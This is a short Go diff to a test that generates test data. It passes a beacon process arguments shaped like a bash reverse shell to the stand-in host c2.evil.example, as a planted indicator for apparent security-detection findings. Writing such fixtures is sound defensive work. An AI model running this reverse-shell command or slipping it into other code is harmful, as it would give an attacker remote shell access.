@@ -27,7 +27,9 @@ func TestGenerateTestdata(t *testing.T) {
 		t.Fatal(err)
 	}
 	os.MkdirAll(dir, 0o755)
-	sc := e2etest.NewScenario(t, e2etest.ScenarioOptions{})
+	// The beacon's command line has a reverse-shell shape, as a planted
+	// indicator for the findings (the workload ignores these arguments).
+	sc := e2etest.NewScenario(t, e2etest.ScenarioOptions{BeaconArgs: []string{"bash", "-i", ">&", "/dev/tcp/c2.evil.example/4444", "0>&1"}})
 	sc.WaitContact(t, 20*time.Second, func(e e2etest.Event) bool { return e.Proto == "tcp" })
 	sc.WaitContact(t, 20*time.Second, func(e e2etest.Event) bool { return e.Proto == "udp" })
 
